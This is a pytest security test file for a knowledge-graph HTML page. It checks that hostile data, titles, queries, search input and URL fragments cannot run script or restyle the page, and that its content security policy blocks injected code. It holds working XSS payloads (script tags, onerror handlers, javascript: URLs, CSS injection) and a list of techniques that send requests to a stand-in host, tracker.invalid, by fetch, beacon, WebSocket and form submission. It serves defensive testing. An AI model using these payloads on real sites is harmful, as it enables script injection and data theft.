"""Data, title and address that attack the page: in every view, hovered, selected, searched for and unfolded."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pyoxigraph as ox
import pytest
import sample
from pages import HOSTILE, ZHIJIN, browsing, hostile, told

from kg import query_data, query_text
from kg.network import network
from kg.page import render

pytestmark = browsing
KEY = "https://graph.example/id/hostile"
SEEN = f"{KEY}/label"


def attack(route: str) -> str:
    """A text that runs, restyles or calls out if it is ever markup, a script, a style or an attribute."""
    run = f"window.__xss=`{route}`"
    return (
        f"\"'></title></script></style></textarea><script>{run}</script><img src=x onerror={run}>"
        f"<svg onload={run}><style>*{{display:none}}</style><iframe srcdoc='<script>top.{run[7:]}</script>'>"
        f"<a href=javascript:{run}>href</a><b onmouseover={run}>}}*{{background:url(https://tracker.invalid/{route})}}"
    )


def iri(route: str) -> str:
    return f"javascript:window.__xss='{route}'//&lt;img+onerror=alert(1)"


def literal(route: str, kind: str = "") -> ox.Literal:
    return ox.Literal(attack(route), datatype=ox.NamedNode(kind)) if kind else ox.Literal(attack(route))


def texts(subject: str, route: str, predicate: str = sample.RDFS + "label") -> list[ox.Quad]:
    return [
        sample.quad(subject, predicate, ox.Literal(attack(route), language=lang)) for lang in ("zh", "en")
    ]


def about(route: str, *more: ox.Quad) -> list[ox.Quad]:
    """A node that stands in every view: with a class, a name, a time and a place."""
    key, moment = f"{KEY}/{route}", ox.Literal("2020-01-25", datatype=ox.NamedNode(sample.XSD + "date"))
    return [
        sample.quad(key, sample.RDF + "type", "Repair"),
        sample.quad(key, sample.RDFS + "label", ox.Literal(route, language="en")),
        sample.quad(key, "startsAt", moment),
        sample.quad(key, "tookPlaceIn", ZHIJIN),
        *more,
    ]


def fact(route: str, predicate: str, value: object) -> list[ox.Quad]:
    return about(route, sample.quad(f"{KEY}/{route}", predicate, value))


XSD, RDF = sample.XSD, sample.RDF
# Where data get into a page: the routes that pyvis has for them, and those that only this page has.
ROUTES: dict[str, list[ox.Quad]] = {
    "label": about("label", *texts(SEEN, "label")),
    "edge-label": fact("edge-label", "hurts", ZHIJIN) + texts("hurts", "edge-label"),
    "edge-iri": fact("edge-iri", iri("edge-iri"), ZHIJIN),
    "fact": fact("fact", "value", literal("fact")),
    "fact-href": fact("fact-href", "value", ox.Literal("href " + attack("fact-href"), language="en")),
    "fact-iri": fact("fact-iri", "value", iri("fact-iri")),
    "fact-data": fact("fact-data", "value", "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E"),
    "node-iri": [
        sample.quad(iri("node-iri"), "tookPlaceIn", ZHIJIN),
        *texts(iri("node-iri"), "node-iri"),
    ],
    "class-name": fact("class-name", RDF + "type", "Hostile") + texts("Hostile", "class-name"),
    "class-iri": fact("class-iri", RDF + "type", iri("class-iri")),
    "datatype": fact("datatype", "value", literal("datatype", iri("datatype"))),
    "term": fact("term", "purpose", "https://graph.example/concept/command")
    + texts("https://graph.example/concept/command", "term", sample.SKOS + "altLabel"),
    "time": fact("time", "startsAt", literal("time", XSD + "dateTime")),
    "time-text": fact("time-text", "timeText", literal("time-text")),
    "latitude": fact("latitude", "latitude", literal("latitude", XSD + "decimal")),
    "longitude": fact("longitude", "longitude", literal("longitude", XSD + "decimal")),
    "source": fact("source", "statedIn", f"{ZHIJIN}/source") + texts(f"{ZHIJIN}/source", "source"),
    "source-iri": fact("source-iri", "statedIn", iri("source-iri")) + texts(iri("source-iri"), "source-iri"),
    "source-whole": [
        sample.quad(f"{ZHIJIN}/source", "passageOf", iri("whole")),
        *texts(iri("whole"), "source-whole"),
    ],
}
WORDS = ("edge-label", "class-name")  # said by the ontology
# What a page must not have got from data: elements, handlers, styles, links that run something.
GOT = """() => [...document.querySelectorAll("*")].flatMap((item) => [
    ...(item.matches("script:not(#data, #library, body > script:last-of-type, head > script:not([src])), img, iframe, object, embed, base, link, form, style ~ style, body style") ? [item.outerHTML.slice(0, 99)] : []),
    ...item.getAttributeNames().filter((name) => name.startsWith("on") || name === "srcdoc"),
    ...(item.matches("a") && !["http:", "https:", "file:", "blob:", ":"].includes(item.protocol) ? [item.href] : []),
  ]).concat(getComputedStyle(document.querySelector("main")).display === "none" ? ["restyled"] : [])"""
UNFOLD = """() => { for (const item of document.querySelectorAll("details:not([open])")) item.open = true;
  for (const item of document.querySelectorAll("button[aria-expanded=false]")) if (item.checkVisibility()) item.click(); }"""


QUERY = """# title: {0}
# zh: {0}
# en: {0}
# zh names: text = {0}
# param word = {0}
SELECT ?thing ?text ?word {{ ?thing rdfs:label ?text FILTER(CONTAINS(?text, "__xss") && ?word != "#{0}") }} ORDER BY ?text
"""


def made() -> str:
    data, ontology = sample.data(), sample.ontology()
    for route, quads in ROUTES.items():
        (ontology if route in WORDS else data).extend(quads)
        data += quads
    drawn, prefixes = network(data, ontology), {"": sample.KG, "rdfs": sample.RDFS}
    filled = ox.Store()
    filled.extend(data)
    text = attack("query").replace('"', "'")
    query = query_text.described(QUERY.format(text), Path("'><img src=x onerror=window.__xss=1>.rq"))
    queries = query_data.packed([query_data.ask(query, filled, prefixes, {})], drawn, prefixes)
    titles = {"zh": attack("title"), "en": attack("title-en")}
    return render(drawn, title=titles, queries=queries, prefixes=prefixes)


@pytest.fixture(scope="module")
def hostile_page() -> str:
    return made()


@pytest.fixture(scope="module")
def hostile_overview() -> str:
    """The same, as a page that opens on communities."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("kg.page.WHOLE", 20)
        return made()


# Each node in turn as an address selects it, with all that unfolds; returns those that were not selected.
SELECT = f"""async (nodes) => {{ const missed = [];
  for (const node of nodes) {{
    const heard = new Promise((done) => addEventListener("hashchange", done, {{ once: true }}));
    location.hash = `${{encodeURIComponent(node)}}&view=${{kgPage.view}}`;
    await heard;
    await new Promise((drawn) => requestAnimationFrame(drawn));
    ({UNFOLD})();
    if (kgPage.selected !== node) missed.push(node);
  }}
  return missed; }}"""
ADDRESSES = """async (fragments) => { const lost = [];
  for (const fragment of fragments) {
    location.hash = fragment;
    await new Promise((drawn) => requestAnimationFrame(() => setTimeout(drawn)));
    if (document.querySelectorAll("[role=tabpanel]:not([hidden])").length !== 1) lost.push(fragment);
  }
  return lost; }"""


def hover(page: Any) -> None:
    """Over all of the shown view, point by point."""
    box = page.locator("#stage").bounding_box()
    for row in range(1, 7):
        for column in range(1, 11):
            page.mouse.move(box["x"] + box["width"] * column / 11, box["y"] + box["height"] * row / 7)


def harmless(page: Any) -> bool:
    """Nothing ran and nothing became markup so far."""
    assert page.evaluate("typeof window.__xss") == "undefined", page.evaluate("window.__xss")
    assert page.evaluate(GOT) == []
    return True


@pytest.mark.parametrize(
    ("html", "policy"), [("hostile_page", True), ("hostile_page", False), ("hostile_overview", False)]
)
def test_nothing_of_the_data_runs_in_any_view(
    html: str, policy: bool, open_page: Callable[..., Any], request: pytest.FixtureRequest
) -> None:
    """The page's own care is enough; its policy is a second wall."""
    page = open_page(request.getfixturevalue(html), bypass_csp=not policy)
    assert page.title() == page.text_content("h1") == attack("title")
    for view in page.evaluate("kgPage.views"):
        page.evaluate("(view) => kgPage.set({ view, lang: 'zh' })", view)
        nodes = [node for node in told(page, "visible") if "hostile" in node or "xss" in node]
        assert len(nodes) >= len(ROUTES) - 2  # a whole is told, and a command is a term
        hover(page)
        assert page.evaluate(SELECT, nodes) == []
        for ask in page.locator("[data-ask]:visible").all():
            ask.click()
            assert "__xss" in page.inner_text(f"#view-{view} table")
        page.evaluate("kgPage.set({ lang: 'en' })")
        assert page.title() == attack("title-en")
        hover(page)
        assert harmless(page)


def test_hostile_texts_arrive_as_they_are(open_page: Callable[..., Any]) -> None:
    """Nothing is lost or changed of them on the way; as a title, the first."""
    page = open_page(render(network(*hostile()), title=HOSTILE[0]))
    assert page.title() == HOSTILE[0]
    for i, text in enumerate(HOSTILE):
        assert page.evaluate(SELECT, [f"javascript:window.__xss={i}//"]) == []
        assert page.text_content("#detail h2") == text
    assert harmless(page)


def test_nothing_that_is_searched_for_or_typed_runs(hostile_page: str, open_page: Callable[..., Any]) -> None:
    """Hits show the hostile names as text, and every field of the page takes hostile text."""
    page = open_page(hostile_page, bypass_csp=True)
    for text in ("onerror", "<script>window", attack("label"), "tracker.invalid"):
        page.fill("#search", text)
        assert page.locator("#hits [role=option]:not(.none)").count() >= 1
        assert harmless(page)
        page.press("#search", "ArrowDown")
        page.press("#search", "Enter")
        assert told(page, "selected") is not None
        assert harmless(page)
    for view in page.evaluate("kgPage.views"):
        page.evaluate("(view) => kgPage.set({ view })", view)
        page.evaluate(UNFOLD)
        fields = page.locator("input:is([type=search], [type=text], :not([type])):visible, textarea:visible")
        for i in range(fields.count()):
            field = fields.nth(i)
            field.fill(attack("field"))
            field.press("Enter")
            field.fill("")
        assert harmless(page)


def test_no_address_runs_or_breaks_anything(sample_page: str, open_page: Callable[..., Any]) -> None:
    """Whatever stands in the fragment, by itself and as the value of each field, a view is there."""
    keys = "view lang hide unlink in time q sort path way ask open toString __proto__"
    values = (*HOSTILE, attack("address"), iri("address"), "%", "%E4%", "__proto__", "1e999..-1", "\0")
    page = open_page(sample_page, fragment="#" + quote(attack("address")), bypass_csp=True)
    fragments = [f"{key}={text}" for text in values for key in keys.split(" ")]
    fragments += [part for text in values for part in (text, quote(text), f"{ZHIJIN}&q={text}&q={text}")]
    assert page.evaluate(ADDRESSES, fragments) == []
    assert harmless(page)


ATTEMPTS = {
    "eval": "eval('window.__xss = 1')",
    "function": "new Function('window.__xss = 2')()",
    "timer": "setTimeout('window.__xss = 3')",
    "script": "const s = document.createElement('script'); s.text = 'window.__xss = 4'; document.body.append(s)",
    "script-from-afar": "const s = document.createElement('script'); s.src = 'https://tracker.invalid/x.js'; document.body.append(s)",
    "another-policy": "trustedTypes.createPolicy('mine', { createScript: (t) => t }); window.__xss = 5",
    "same-policy": "trustedTypes.createPolicy('library', { createScript: (t) => t }); window.__xss = 6",
    "default-policy": "trustedTypes.createPolicy('default', { createHTML: (t) => t }); window.__xss = 7",
    "markup": "document.body.innerHTML += '<img src=x onerror=window.__xss=8>'",
    "parser": "document.body.append(...new DOMParser().parseFromString('<img src=x onerror=window.__xss=9>', 'text/html').body.children)",
    "handler": "document.body.setAttribute('onclick', 'window.__xss = 10'); document.body.click()",
    "link": "const a = document.createElement('a'); a.href = 'javascript:window.__xss=11'; document.body.append(a); a.click()",
    "frame": "const f = document.createElement('iframe'); f.src = 'javascript:top.__xss=12'; document.body.append(f)",
    "import": "import('data:text/javascript,window.__xss=13')",
    "worker": "new Worker(URL.createObjectURL(new Blob(['1']))); window.__xss = 14",
    "image": "new Image().src = 'https://tracker.invalid/x.png'",
    "fetch": "fetch('https://tracker.invalid/').then(() => { window.__xss = 15; })",
    "beacon": "navigator.sendBeacon('https://tracker.invalid/', 'x')",
    "socket": "new WebSocket('wss://tracker.invalid/').onopen = () => { window.__xss = 16; }",
    "base": "const b = document.createElement('base'); b.href = 'https://tracker.invalid/'; document.head.append(b); if (document.baseURI.includes('tracker')) window.__xss = 17",
    "style": "const s = document.createElement('style'); s.textContent = 'main { display: none }'; document.head.append(s)",
    "style-attribute": "document.querySelector('main').setAttribute('style', 'display: none')",
    "form": "const f = document.createElement('form'); f.action = 'https://tracker.invalid/'; document.body.append(f); f.submit()",
}


def test_policy_stops_what_gets_in_all_the_same(sample_page: str, open_page: Callable[..., Any]) -> None:
    """Each is tried in a task of the page's own, as code that got in would be; no request leaves."""
    page = open_page(sample_page, allow=("console: ", "error: ", "request: https://tracker.invalid/"))
    ends = []
    page.on("requestfailed", lambda request: ends.append(request.failure))
    page.on("requestfinished", lambda request: ends.append(request.url))
    sockets: list[str] = []
    page.on("websocket", lambda socket: sockets.append(socket.url))
    got_in = []
    for attempt, code in ATTEMPTS.items():
        page.evaluate(f"() => {{ setTimeout(async () => {{ {code} }}); }}")
        page.wait_for_timeout(40)
        if page.evaluate("typeof window.__xss") != "undefined" or not page.is_visible("main"):
            got_in.append(attempt)
            page.evaluate("() => { delete window.__xss; document.querySelector('main').style = ''; }")
    assert got_in == []
    assert set(ends) <= {"csp"}
    assert sockets == []
    assert page.url.startswith("file:")
